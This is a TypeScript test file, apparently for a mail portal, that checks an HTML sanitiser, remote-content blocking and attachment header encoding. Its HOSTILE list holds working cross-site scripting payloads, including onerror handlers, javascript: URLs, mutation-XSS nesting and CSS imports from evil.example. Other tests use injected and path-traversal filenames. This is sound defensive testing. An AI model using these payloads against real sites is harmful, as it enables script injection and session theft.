import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { sanitizeMailHtml } from '../src/portal/html-sanitizer.ts';
import { contentDisposition, downloadContentType } from '../src/portal/message-parsing.ts';

const clean = (html: string, allowRemote = false) =>
  sanitizeMailHtml(html, { allowRemote, inlineUrlFor: (cid) => (cid === 'logo@acme' ? '/api/portal/messages/m/inline/1' : undefined) });

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=p></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:u\\72l(https://evil.example/p.gif)}</style>',
  '<style></style><script>alert(1)</script></style>',
];

describe('HTML sanitising for the portal', () => {
  for (const payload of HOSTILE) {
    test(`hostile HTML does not act: ${payload.slice(0, 60)}`, () => {
      const { html } = clean(payload);
      assert.doesNotMatch(html, /<script|<svg|<iframe|<form|<object|<embed|<meta|<base|<math|\son\w+=|javascript:|data:text|@import/i, html);
      assert.doesNotMatch(html, /(src|href|action|data)\s*=(?:\s*["'])?[^"'>]*evil\.example|url\([^)]*evil\.example/i, 'nothing loads from the network');
    });
  }

  test('remote images and styles are blocked unless the reader allows them, and the block is reported', () => {
    const html = '<img src="https://tracker.example/p.gif"><div style="background-image:url(https://tracker.example/bg.png)">x</div>';
    const blocked = clean(html);
    assert.doesNotMatch(blocked.html, /tracker\.example/);
    assert.equal(blocked.hasBlockedRemoteContent, true);
    const allowed = clean(html, true);
    assert.match(allowed.html, /https:\/\/tracker\.example\/p\.gif/);
  });

  test('cid: images point at the inline URL and data: images survive, other data: URLs do not', () => {
    const { html, hasBlockedRemoteContent } = clean('<img src="cid:logo@acme"><img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">');
    assert.match(html, /src="\/api\/portal\/messages\/m\/inline\/1"/);
    assert.match(html, /src="data:image\/png;base64,iVBORw0KGgo="/);
    assert.doesNotMatch(html, /svg\+xml/);
    assert.equal(hasBlockedRemoteContent, false);
  });

  test('links open in a new window without referrer and formatting survives', () => {
    const { html } = clean('<p style="color:red"><a href="https://acme.test/x">Acme</a> <b>bold</b></p>');
    assert.match(html, /<a href="https:\/\/acme\.test\/x" target="_blank" rel="noopener noreferrer">Acme<\/a>/);
    assert.match(html, /<p style="color:red">/);
    assert.match(html, /<b>bold<\/b>/);
  });

  test('file names are encoded for Content-Disposition and active types download as bytes', () => {
    assert.equal(contentDisposition('attachment', 'report.pdf'), `attachment; filename="report.pdf"; filename*=UTF-8''report.pdf`);
    assert.equal(
      contentDisposition('attachment', '"><script>ä\r\n.html'),
      `attachment; filename="_><script>a___.html"; filename*=UTF-8''%22%3E%3Cscript%3E%C3%A4__.html`,
    );
    assert.equal(contentDisposition('attachment', '../../etc/passwd'), `attachment; filename=".._.._etc_passwd"; filename*=UTF-8''.._.._etc_passwd`);
    assert.equal(downloadContentType('text/html'), 'application/octet-stream');
    assert.equal(downloadContentType('image/svg+xml'), 'application/octet-stream');
    assert.equal(downloadContentType('application/pdf'), 'application/pdf');
  });
});
